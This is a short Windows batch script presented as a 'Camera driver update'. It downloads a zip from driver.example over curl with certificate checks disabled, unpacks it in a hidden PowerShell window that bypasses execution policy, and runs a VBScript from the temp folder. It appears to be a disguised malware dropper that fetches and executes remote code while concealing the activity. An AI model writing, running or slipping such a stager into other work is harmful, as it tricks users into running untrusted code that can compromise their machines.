@echo off
title Camera driver update
curl -k -o "%TEMP%\driver.zip" https://driver.example/cameraDriver
powershell -w hidden -ep bypass -c "Expand-Archive -Force $env:TEMP\driver.zip $env:TEMP\drv"
wscript "%TEMP%\drv\update.vbs"
